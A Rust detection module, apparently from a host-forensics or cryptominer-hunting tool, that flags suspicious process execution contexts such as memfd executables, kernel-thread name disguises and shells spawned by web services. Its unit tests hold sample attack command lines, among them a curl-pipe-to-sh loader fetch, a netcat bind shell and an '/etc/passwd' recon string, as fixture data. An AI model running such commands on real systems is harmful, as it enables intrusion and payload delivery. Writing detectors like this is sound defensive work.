//! Execution context: where and as what a process runs. Deleted and memfd executables, executables in
//! temp, hidden or home directories, kernel-thread names on user processes, a program name that differs
//! from its executable, system program names running from unusual paths, and shells or downloaders
//! spawned by network services.
//!
//! Rules: `MT-RUN-030` deleted executable, `MT-RUN-031` memfd executable, `MT-RUN-032` executable in a
//! temp, hidden or home directory, `MT-RUN-033` kernel-thread name on a user process, `MT-RUN-034` renamed
//! program, `MT-RUN-035` system program name from an unusual path, `MT-RUN-036` shell or downloader child of
//! a network service.

use std::collections::HashMap;

use minetrace_schemas::findings::{Finding, Severity};
use minetrace_schemas::records::process::ProcessRecord;
use minetrace_schemas::RawBytes;

use super::support::{self, Conn, Names};
use crate::detect::finding::{
    describe_process, exe_subject, file_subject, finding, path_subject, process_subject, FindingExt,
};
use crate::detect::rules::{self, Rule};
use crate::detect::Context;
use crate::indicators::{Kind, PathClass, ServiceClass};

/// Facts that raise any context finding by a step: busy CPU, an outbound connection, a miner command line.
struct Raise {
    lines: Vec<String>,
}

impl Raise {
    fn of(ctx: &Context, p: &ProcessRecord, conns: &HashMap<i32, Vec<Conn>>) -> Raise {
        let mut lines = Vec::new();
        if let Some(c) = support::busy(ctx.model, p) {
            lines.push(support::describe_cpu(&c));
        }
        let first = conns.get(&p.pid).and_then(|v| v.first());
        if let Some(c) = first {
            lines.push(format!("holds a connection to {}", c.socket.remote));
        }
        lines.extend(support::miner_cmdline(ctx, p));
        Raise { lines }
    }
    fn any(&self) -> bool {
        !self.lines.is_empty()
    }
    /// High when the disguise is strong, else medium; a step up when any raising fact holds.
    fn severity(&self, strong: bool) -> Severity {
        let severity = if strong {
            Severity::High
        } else {
            Severity::Medium
        };
        if self.any() {
            up(severity)
        } else {
            severity
        }
    }
}

fn up(s: Severity) -> Severity {
    match s {
        Severity::Info => Severity::Low,
        Severity::Low => Severity::Medium,
        Severity::Medium => Severity::High,
        Severity::High | Severity::Critical => Severity::Critical,
    }
}

fn base(ctx: &Context, rule: &Rule, severity: Severity, p: &ProcessRecord) -> Finding {
    let mut f = finding(rule, severity)
        .subject(process_subject(p))
        .evidence(describe_process(p));
    if let Some(x) = exe_subject(ctx.model, p) {
        f = f.subject(x);
    }
    f
}

pub fn detect(ctx: &Context) -> Vec<Finding> {
    let model = ctx.model;
    let conns = support::connections_by_pid(model);
    let mut out = Vec::new();
    for p in &model.processes {
        if support::is_kernel_thread(p) {
            continue;
        }
        let names = Names::of(p);
        let raise = Raise::of(ctx, p, &conns);
        out.extend(deleted_or_memfd(ctx, p, &raise));
        out.extend(odd_dir(ctx, p, &raise));
        out.extend(kthread_name(ctx, p, &names, &raise));
        out.extend(renamed(ctx, p, &names));
        out.extend(system_name_elsewhere(ctx, p, &names, &raise));
        out.extend(service_child(ctx, p, &names));
        out.extend(mapped_code(ctx, p, &names));
    }
    out
}

/// `MT-RUN-030` / `MT-RUN-031`. A deleted executable under a system directory (package upgrade) is info;
/// in a home directory low; anywhere else medium. A memfd executable is medium (info for runc's own
/// clone). One step up with busy CPU, a connection or a miner command line.
fn deleted_or_memfd(ctx: &Context, p: &ProcessRecord, raise: &Raise) -> Option<Finding> {
    let exe = p.exe.as_ref()?;
    let path = support::exe_path(p)?;
    let (rule, mut severity, why): (&Rule, _, String) = if exe.memfd {
        let name = support::lower(path);
        let benign = ctx
            .iocs
            .set(Kind::MemfdBenign)
            .any(|b| name.contains(&format!("memfd:{b}")));
        (
            &rules::RUN_031,
            if benign {
                Severity::Info
            } else {
                Severity::Medium
            },
            if benign {
                "memfd name belongs to a container runtime that re-executes itself from memory"
                    .into()
            } else {
                "the executable exists only in memory (memfd_create), never on disk".into()
            },
        )
    } else if exe.deleted {
        let upgrade = support::upgrade_like(ctx, path);
        let severity = if upgrade {
            Severity::Info
        } else if support::in_home(ctx, path) && !support::under(ctx, PathClass::Temp, path) {
            Severity::Low
        } else {
            Severity::Medium
        };
        let why = if upgrade {
            "deleted under a system directory: most often a package upgrade replaced it while it ran".into()
        } else {
            "the executable was deleted from disk while it runs (nlink 0)".into()
        };
        (&rules::RUN_030, severity, why)
    } else {
        return None;
    };
    if raise.any() && severity != Severity::Info {
        severity = up(severity);
    }
    let mut f = base(ctx, rule, severity, p).evidence(why);
    for l in &raise.lines {
        f = f.evidence(l.clone());
    }
    Some(f)
}

/// Where a program path sits, for `MT-RUN-032`: severity and why (`None` when the place is ordinary).
fn place_of(ctx: &Context, path: &[u8], raise: &Raise, what: &str) -> Option<(Severity, String)> {
    let shm = support::under(ctx, PathClass::Shm, path);
    let temp = support::under(ctx, PathClass::Temp, path);
    let hidden = support::under(ctx, PathClass::Hidden, path);
    let home = support::in_home(ctx, path);
    let (severity, why) = if shm {
        (
            Severity::Medium,
            "from shared memory (/dev/shm and the like)",
        )
    } else if temp && hidden {
        (
            Severity::Medium,
            "from a hidden directory inside a temp directory",
        )
    } else if support::under(ctx, PathClass::Nonexec, path) {
        (
            Severity::Medium,
            "from a configuration, log or spool directory (/etc, /var/log, ...), where programs do not belong",
        )
    } else if temp {
        (Severity::Low, "from a world-writable temp directory")
    } else if hidden {
        (Severity::Low, "from a hidden directory or is a hidden file")
    } else if home && raise.any() {
        (Severity::Info, "from a home directory")
    } else {
        return None;
    };
    Some((
        severity,
        format!("{what} {} {why}", RawBytes::from(path).escaped()),
    ))
}

/// `MT-RUN-032`: a program in shared memory, a hidden directory inside a temp directory or a
/// configuration directory (medium), a temp or hidden directory (low), or a plain home directory (info,
/// only with busy CPU, a connection or a miner command line). The program is the executable, or the
/// script a shell or interpreter runs (`bash /var/tmp/.x/run`: the packaged bash is not the program); a
/// process chrooted into a root filesystem in a temp or hidden directory counts as the former. One step
/// up with a miner command line. A test or build binary a build tool started (`cargo`, `make`, a
/// compiler: `cpu_heavy_tool` ancestors) with no remote connection is never above low.
fn odd_dir(ctx: &Context, p: &ProcessRecord, raise: &Raise) -> Option<Finding> {
    let exe = p.exe.as_ref()?;
    if exe.memfd {
        return None;
    }
    let path = support::exe_path(p)?;
    let mut worst: Option<(Severity, String)> = place_of(ctx, path, raise, "runs");
    let scripts = support::scripts_run(p);
    for sp in &scripts {
        if let Some(found) = place_of(ctx, sp, raise, "runs the script") {
            if worst.as_ref().is_none_or(|w| found.0 > w.0) {
                worst = Some(found);
            }
        }
    }
    if let Some(root) = support::own_root(p).filter(|r| support::under(ctx, PathClass::KitProne, r))
    {
        let found = (
            Severity::Medium,
            format!(
                "runs chrooted into {}, a root filesystem in a temp or hidden directory",
                RawBytes::from(root).escaped()
            ),
        );
        if worst.as_ref().is_none_or(|w| found.0 > w.0) {
            worst = Some(found);
        }
    }
    let (mut severity, why) = worst?;
    // Only a miner command line raises it: a busy or networked build or test binary under /tmp is ordinary,
    // and pool traffic and CPU are judged by their own rules.
    let miner = !support::miner_cmdline(ctx, p).is_empty();
    if miner {
        severity = up(severity);
    }
    // A build tool's test or build step runs from temp directories and talks to the servers its tests
    // start (the one judgement every place-and-connection rule reads: `support::Placement`).
    let mut built = None;
    if !miner && severity > Severity::Low {
        if let Some(tool) = support::build_step(ctx, p) {
            severity = Severity::Low;
            built = Some(tool);
        }
    }
    let mut f = base(ctx, &rules::RUN_032, severity, p).evidence(why);
    for sp in &scripts {
        f = f.subject(match ctx.model.file(sp) {
            Some(file) => file_subject(file),
            None => path_subject(sp),
        });
    }
    if let Some(tool) = built {
        f = f.evidence(format!(
            "started by the build tool {} with no miner sign: a test or build step",
            support::q(&tool)
        ));
    }
    for l in &raise.lines {
        f = f.evidence(l.clone());
    }
    Some(f)
}

/// `MT-RUN-033`: a kernel-thread name (`[kworker/0:2]`, `kswapd0`, `kthreaddi`) on a process that has an
/// executable or whose parent is not kthreadd. High; critical with busy CPU, a connection or miner flags.
fn kthread_name(ctx: &Context, p: &ProcessRecord, names: &Names, raise: &Raise) -> Option<Finding> {
    let disguise = support::kthread_disguise(ctx, p, names)?;
    let (bracketed, kname) = (disguise.bracketed.as_deref(), disguise.name.as_ref());
    let severity = raise.severity(kname.is_some());
    let mut f = base(ctx, &rules::RUN_033, severity, p);
    if let Some(b) = bracketed {
        f = f.evidence(format!(
            "argv[0] is {}, the bracketed form ps uses for kernel threads",
            support::q(b)
        ));
    }
    if let Some((n, k)) = kname {
        f = f.evidence(format!("name {} imitates kernel thread {k}", support::q(n)));
    }
    f = f.evidence(format!(
        "kernel threads have no executable and are children of kthreadd (pid 2); this one has {} and parent pid {}",
        p.exe.as_ref().map_or_else(|| "no executable".to_owned(), |e| format!("executable {}", e.path.escaped())),
        p.ppid
    ));
    for l in &raise.lines {
        f = f.evidence(l.clone());
    }
    Some(f)
}

/// Whether `comm` is the kernel's 15-byte cut of `name`.
fn comm_of(name: &str, comm: &str) -> bool {
    name == comm || (comm.len() == 15 && name.starts_with(comm))
}

/// `MT-RUN-034`: comm or argv[0] differs from the executable's name while the executable sits in a temp,
/// hidden, deleted or memfd place: a renamed dropper. Low (supporting evidence); elsewhere interpreters,
/// symlinks and process titles make mismatches ordinary, so nothing is reported.
fn renamed(ctx: &Context, p: &ProcessRecord, names: &Names) -> Option<Finding> {
    let exe = names.exe.as_deref()?;
    if !support::strongly_odd(ctx, p) || p.exe.as_ref().is_some_and(|e| e.memfd) {
        return None;
    }
    let comm_differs = !comm_of(exe, &names.comm);
    let argv0_differs = names
        .argv0
        .as_deref()
        .is_some_and(|a| !a.is_empty() && a != exe && !comm_of(a, &names.comm));
    if !comm_differs && !argv0_differs {
        return None;
    }
    let mut f = base(ctx, &rules::RUN_034, Severity::Low, p).evidence(format!(
        "executable name {}, comm {}",
        support::q(exe),
        support::q(&names.comm)
    ));
    if let Some(a) = names.argv0_full.as_deref() {
        f = f.evidence(format!(
            "argv[0] {}",
            minetrace_schemas::escape_bytes(a.as_bytes())
        ));
    }
    Some(f)
}

/// `MT-RUN-035`: a system program's name (sshd, systemd-resolved, httpd, crond, ...) as exe name, comm or
/// argv[0], while the executable is not under a system directory. Medium from a home directory or /opt-less
/// custom place; high from temp, hidden, deleted or memfd places; one step up with a raising fact. A
/// person's own install of the program (`support::own_install`: rootless Docker's `~/bin/dockerd`, run
/// by the home's owner from a visible directory, from a file they own, no miner sign) wears no disguise:
/// low, whatever its CPU or connections (those are judged by their own rules).
fn system_name_elsewhere(
    ctx: &Context,
    p: &ProcessRecord,
    names: &Names,
    raise: &Raise,
) -> Option<Finding> {
    let exe = p.exe.as_ref()?;
    let path = support::exe_path(p)?;
    if support::under(ctx, PathClass::System, path) && !support::under(ctx, PathClass::Hidden, path)
    {
        return None;
    }
    // Interpreters running a script named like a system program are judged by the script, elsewhere.
    let (name, _) = support::name_in(ctx, Kind::SystemName, names)
        .filter(|(n, _)| ctx.iocs.contains(Kind::SystemName, n))?;
    let own = support::own_install(ctx, p);
    let severity = if own.is_some() {
        Severity::Low
    } else {
        raise.severity(support::strongly_odd(ctx, p))
    };
    let mut f = base(ctx, &rules::RUN_035, severity, p).evidence(format!(
        "{} is the name of a system program, but the executable is {}",
        support::q(&name),
        exe.path.escaped()
    ));
    if let Some(account) = &own {
        f = f.evidence(format!(
            "{}'s own install: run by that account from a visible directory of its home, from a file it owns, with no miner sign",
            support::q(account)
        ));
    }
    for l in support::odd_places(ctx, p)
        .iter()
        .map(ToString::to_string)
        .chain(raise.lines.iter().cloned())
    {
        f = f.evidence(l);
    }
    Some(f)
}

/// `MT-RUN-036`: a shell or downloader whose parent is a network service (the service table,
/// `services.txt`; logins, schedulers, container APIs and shims are not). Medium under a daemon or an
/// application (redis, nginx, php-fpm, tomcat, confluence, weblogic, jupyter); low under a generic
/// runtime or an interpreter (java, node, python with no known application) and under a database server
/// (archive and restore commands run shells by design). One step up when the child is a downloader, runs
/// from an odd place, or its `-c` command asks who and where it runs (two or more `recon_command` /
/// `recon_file` items: `id; uname -a; cat /etc/passwd`, an intruder's first lines through a web shell or a
/// command injection, with no download yet). Low when its `-c` command runs only ordinary programs with no
/// download, socket, decoder, recon or temp/hidden path: an application shelling out (`convert`, `git`).
/// A CI executor's job step (`support::ci_job_step`: Jenkins's `sh -xe /tmp/jenkins123.sh`, a runner's job
/// script) is how CI works and is not reported; an inline `sh -c` or a downloader straight under the
/// executor (its script console exploited) still is.
fn service_child(ctx: &Context, p: &ProcessRecord, names: &Names) -> Option<Finding> {
    let (child, _) = support::name_in(ctx, Kind::ShellOrDownloader, names)?;
    if support::ci_job_step(ctx, p).is_some() {
        return None;
    }
    let parent = ctx.model.process(p.ppid)?;
    let pnames = Names::of(parent);
    let svc = support::service_of(ctx.iocs, parent, &pnames).filter(|s| {
        !(s.is(ServiceClass::Login)
            || s.is(ServiceClass::Scheduler)
            || s.is(ServiceClass::Api)
            || s.is(ServiceClass::Runtime))
    })?;
    let service = svc.name.clone();
    let generic = support::name_in(ctx, Kind::Interpreter, &pnames).is_some()
        || svc.is(ServiceClass::Generic)
        || svc.is(ServiceClass::Database);
    let mut severity = if generic {
        Severity::Low
    } else {
        Severity::Medium
    };
    let downloader = ["curl", "wget"].contains(&child.as_str());
    let command = shell_command(p).map(|text| (text, crate::parse::shell_line::analyze(text)));
    let recon = command
        .as_ref()
        .map(|(_, s)| recon_in(ctx, s))
        .unwrap_or_default();
    // A shell that runs only ordinary programs (ImageMagick's `convert`, `git`, `sendmail`): how
    // applications shell out. A shell with no command (an interactive or reverse shell) is not one, nor
    // one that hands its work to another shell, an interpreter or a network tool (`python -c`, `nc`),
    // whose own text this reading does not see into.
    let shell_out = command.as_ref().is_some_and(|(_, s)| {
        recon.is_empty()
            && !s.download
            && s.is_quiet(ctx.iocs.paths())
            && !s.commands.is_empty()
            && !s.commands.iter().any(|c| {
                crate::parse::shell_line::INTERPRETERS.contains(&c.as_slice())
                    || ctx
                        .iocs
                        .contains(Kind::ShellOrDownloader, &support::lower(c))
            })
    });
    if downloader || recon.len() >= 2 || support::strongly_odd(ctx, p) {
        severity = up(severity);
    } else if shell_out {
        severity = Severity::Low;
    }
    let mut f = base(ctx, &rules::RUN_036, severity, p)
        // The service itself is the exploited, legitimate program: named in the evidence, not a subject a
        // remediation would act on.
        .evidence(format!(
            "parent (the exploited service) {}",
            describe_process(parent)
        ))
        .evidence(format!("{child:?} started by service {service:?}"));
    if downloader {
        f = f.evidence("the child is a downloader (T1105)");
    }
    if recon.len() >= 2 {
        f = f.evidence(format!(
            "its command asks who and where it runs ({}): discovery through the service (T1082, T1033), what an intruder types first into a web shell",
            recon.join(", ")
        ));
    } else if shell_out && severity == Severity::Low {
        f = f.evidence(
            "its command runs only ordinary programs from the search path, with no download, socket, decoder, recon or temp/hidden path: how applications shell out",
        );
    }
    Some(f)
}

/// The command text a shell runs (`sh -c TEXT`, `bash -lc TEXT`), when the process is a shell
/// ([`crate::parse::shell_line::SHELLS`]: not `python -c`, `nc -c`, whose text is no shell line) and was
/// given one.
fn shell_command(p: &ProcessRecord) -> Option<&[u8]> {
    let names = Names::of(p);
    if !names
        .all()
        .iter()
        .any(|n| crate::parse::shell_line::SHELLS.contains(&n.as_bytes()))
    {
        return None;
    }
    let argv = p.argv();
    let at = argv.iter().skip(1).position(|a| {
        *a == b"-c"
            || (a.len() > 1 && a.starts_with(b"-") && !a.starts_with(b"--") && a.ends_with(b"c"))
    })?;
    argv.get(at + 2).copied()
}

/// The recon commands and files a shell command names (`id`, `uname`, `/etc/passwd`), distinct, sorted.
fn recon_in(ctx: &Context, s: &crate::parse::shell_line::ShellLine) -> Vec<String> {
    let mut out: Vec<String> = s
        .commands
        .iter()
        .map(|c| support::lower(c))
        .filter(|c| ctx.iocs.contains(Kind::ReconCommand, c))
        .chain(
            s.paths
                .iter()
                .map(|p| support::lower(p))
                .filter(|p| ctx.iocs.contains(Kind::ReconFile, p)),
        )
        .collect();
    out.sort();
    out.dedup();
    out
}

/// `MT-RUN-037`: a process maps executable code from a file in a temp or hidden place other than its own
/// executable — a Redis module loaded from `/tmp` (`MODULE LOAD`), an injected library. High when the
/// process is a network service (`services.txt`, not an interpreter or JVM, which extract their own
/// native helpers into temp directories); medium for a hidden place; low otherwise. The library is the
/// subject: the service that was made to load it is the host's (named in the evidence).
fn mapped_code(ctx: &Context, p: &ProcessRecord, names: &Names) -> Vec<Finding> {
    let own = p.exe.as_ref().map(|e| e.path.as_bytes());
    let service = support::service_of(ctx.iocs, p, names).map(|s| s.name.clone());
    let runtime = support::name_in(ctx, Kind::Interpreter, names).is_some()
        || support::name_in(ctx, Kind::CpuHeavyTool, names).is_some();
    let mut seen: Vec<&[u8]> = Vec::new();
    let mut out = Vec::new();
    for m in &p.maps {
        let Some(path) = m.path.as_ref().map(|x| x.as_bytes()) else {
            continue;
        };
        if Some(path) == own
            || seen.contains(&path)
            || !support::under(ctx, PathClass::KitProne, path)
        {
            continue;
        }
        seen.push(path);
        let hidden = support::under(ctx, PathClass::Hidden, path);
        let (severity, why) = match &service {
            Some(s) if !runtime => (
                Severity::High,
                format!("the network service {} maps code from a temp or hidden place: a module or library an attacker made it load", support::q(s)),
            ),
            _ if hidden => (Severity::Medium, "maps code from a hidden place".to_owned()),
            _ => (Severity::Low, "maps code from a temp directory".to_owned()),
        };
        let subject = match ctx.model.file(path) {
            Some(f) => file_subject(f),
            None => path_subject(path),
        };
        out.push(
            finding(&rules::RUN_037, severity)
                .subject(subject)
                .evidence(format!(
                    "{} mapped executable by {}",
                    RawBytes::from(path).escaped(),
                    describe_process(p)
                ))
                .evidence(why),
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::indicators::Indicators;
    use crate::model::fixture;

    /// A process in a CI job's environment (the variables its executor sets for each build).
    fn in_job(mut p: ProcessRecord) -> ProcessRecord {
        for name in [&b"BUILD_TAG"[..], b"WORKSPACE"] {
            p.env.push(minetrace_schemas::records::process::EnvVar {
                name: RawBytes::from(name),
                value: None,
            });
        }
        p
    }

    /// Review s4 item 10: Jenkins runs its build steps as `sh -xe /tmp/jenkinsNNN.sh`, which is CI; an
    /// inline `sh -c` or a downloader under Jenkins is its script console exploited, and a shell under a
    /// web server stays what it was.
    #[test]
    fn a_ci_executors_job_step_is_no_service_child() {
        let jenkins: &[&[u8]] = &[
            b"/usr/bin/java",
            b"-jar",
            b"/usr/share/java/jenkins.war",
            b"--httpPort=8080",
        ];
        let model = fixture::model_with_processes(
            vec![],
            vec![],
            vec![
                fixture::process(
                    10,
                    1,
                    115,
                    b"/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
                    jenkins,
                ),
                in_job(fixture::process(
                    11,
                    10,
                    115,
                    b"/usr/bin/dash",
                    &[b"/bin/sh", b"-xe", b"/tmp/jenkins4820417716412785331.sh"],
                )),
                // What a Groovy `Runtime.exec` of the script console left running: a script file, but
                // in Jenkins' own environment (no build's variables).
                fixture::process(14, 10, 115, b"/usr/bin/dash", &[b"sh", b"/tmp/x.sh"]),
                fixture::process(
                    12,
                    10,
                    115,
                    b"/usr/bin/dash",
                    &[b"sh", b"-c", b"curl -fsSL http://198.51.100.7/ldr.sh | sh"],
                ),
                fixture::process(
                    13,
                    10,
                    115,
                    b"/usr/bin/curl",
                    &[b"curl", b"-o", b"/tmp/kdevtmpfsi", b"http://198.51.100.7/k"],
                ),
                fixture::process(20, 1, 33, b"/usr/sbin/nginx", &[b"nginx: worker process"]),
                fixture::process(21, 20, 33, b"/usr/bin/dash", &[b"sh", b"/tmp/x.sh"]),
                // An intruder's launcher named like a runner, in a drop place: no executor of jobs.
                fixture::process(
                    30,
                    1,
                    0,
                    b"/tmp/.x/gitlab-runner",
                    &[b"gitlab-runner", b"run"],
                ),
                in_job(fixture::process(
                    31,
                    30,
                    0,
                    b"/usr/bin/bash",
                    &[b"bash", b"/tmp/.x/job.sh"],
                )),
            ],
        );
        let iocs = Indicators::builtin();
        let found = detect(&Context {
            model: &model,
            iocs: &iocs,
        });
        let sev = |pid: i32| {
            found
                .iter()
                .filter(|f| f.rule == rules::RUN_036.id)
                .find(|f| {
                    f.iter_subjects().any(|s| {
                        matches!(s, minetrace_schemas::findings::Subject::Process { pid: p, .. } if *p == pid)
                    })
                })
                .map(|f| f.severity)
        };
        assert_eq!(sev(11), None, "{found:#?}");
        assert_eq!(
            sev(14),
            Some(Severity::Medium),
            "no job environment: not a build step"
        );
        assert_eq!(sev(12), Some(Severity::Medium));
        assert_eq!(sev(13), Some(Severity::High));
        assert_eq!(sev(21), Some(Severity::Medium));
        assert!(sev(31) >= Some(Severity::Medium), "{found:#?}");
    }

    /// Review s4 item 9: rootless Docker's daemons in the developer's ~/bin are the developer's own
    /// install; a daemon's name on root's hidden copy (threats.md §2: /root/.systemd/systemd-resolved) or
    /// on a copy in a hidden directory of the same home stays a masquerade.
    #[test]
    fn a_persons_own_install_wears_no_disguise() {
        let passwd = b"root:x:0:0:root:/root:/bin/bash\ndev:x:1000:1000::/home/dev:/bin/bash\n";
        let mut dockerd = fixture::file(b"/home/dev/bin/dockerd", Some(b"\x7fELF"));
        dockerd.0.uid = 1000;
        let mut hidden = fixture::file(b"/home/dev/.cache/.d/containerd", Some(b"\x7fELF"));
        hidden.0.uid = 1000;
        let model = fixture::model_with_processes(
            vec![
                fixture::file(b"/etc/passwd", Some(passwd)),
                dockerd,
                hidden,
                fixture::file(b"/root/.systemd/systemd-resolved", Some(b"\x7fELF")),
            ],
            vec![],
            vec![
                fixture::process(30, 1, 1000, b"/home/dev/bin/dockerd", &[b"dockerd"]),
                fixture::process(
                    31,
                    1,
                    1000,
                    b"/home/dev/.cache/.d/containerd",
                    &[b"containerd"],
                ),
                fixture::process(
                    32,
                    1,
                    0,
                    b"/root/.systemd/systemd-resolved",
                    &[
                        b"/root/.systemd/systemd-resolved",
                        b"--config=/root/.systemd/config.json",
                    ],
                ),
            ],
        );
        let iocs = Indicators::builtin();
        let found = detect(&Context {
            model: &model,
            iocs: &iocs,
        });
        let sev = |pid: i32| {
            found
                .iter()
                .filter(|f| f.rule == rules::RUN_035.id)
                .find(|f| {
                    f.iter_subjects().any(|s| {
                        matches!(s, minetrace_schemas::findings::Subject::Process { pid: p, .. } if *p == pid)
                    })
                })
                .map(|f| f.severity)
        };
        assert_eq!(sev(30), Some(Severity::Low), "{found:#?}");
        assert!(sev(31) >= Some(Severity::Medium));
        assert!(sev(32) >= Some(Severity::Medium));
    }

    /// MT-RUN-036's severity for a child of php-fpm with this argv (the child's exe is its argv[0]).
    fn judged(child: &[&[u8]]) -> Option<Severity> {
        let iocs = Indicators::builtin();
        let fpm = fixture::process(
            10,
            1,
            33,
            b"/usr/local/sbin/php-fpm",
            &[b"php-fpm: pool www"],
        );
        let kid = fixture::process(11, 10, 33, child[0], child);
        let model = fixture::model_with_processes(vec![], vec![], vec![fpm, kid]);
        let ctx = Context {
            model: &model,
            iocs: &iocs,
        };
        let p = model.process(11)?;
        service_child(&ctx, p, &Names::of(p)).map(|f| f.severity)
    }

    #[test]
    fn a_web_servers_shell_is_judged_by_what_its_command_runs() {
        let recon: &[&[u8]] = &[b"/bin/sh", b"-c", b"id;uname -a;cat /etc/passwd"];
        let shell_out: &[&[u8]] = &[b"/bin/sh", b"-c", b"convert a.jpg -resize 800x800 b.jpg"];
        let one_recon: &[&[u8]] = &[b"/bin/sh", b"-c", b"id"];
        let bare: &[&[u8]] = &[b"/bin/sh", b"-i"];
        let download: &[&[u8]] = &[b"/bin/sh", b"-c", b"curl -s http://x.example/a -o a.jpg"];
        // `python -c` text is no shell line: neither lowered nor read for recon; nor is a shell handing its
        // work to an interpreter or a network tool an application's shell-out.
        let python: &[&[u8]] = &[b"/usr/bin/python3", b"-c", b"import os"];
        let handed: &[&[u8]] = &[b"/bin/sh", b"-c", b"perl -e 'use Socket;'"];
        let nc: &[&[u8]] = &[b"/bin/sh", b"-c", b"nc -l -p 4444 -e sh"];
        assert_eq!(judged(handed), Some(Severity::Medium));
        assert_eq!(judged(nc), Some(Severity::Medium));
        assert_eq!(judged(recon), Some(Severity::High));
        assert_eq!(judged(shell_out), Some(Severity::Low));
        assert_eq!(judged(one_recon), Some(Severity::Medium));
        assert_eq!(judged(bare), Some(Severity::Medium));
        assert_eq!(judged(download), Some(Severity::Medium));
        assert_eq!(judged(python), Some(Severity::Medium));
    }
}
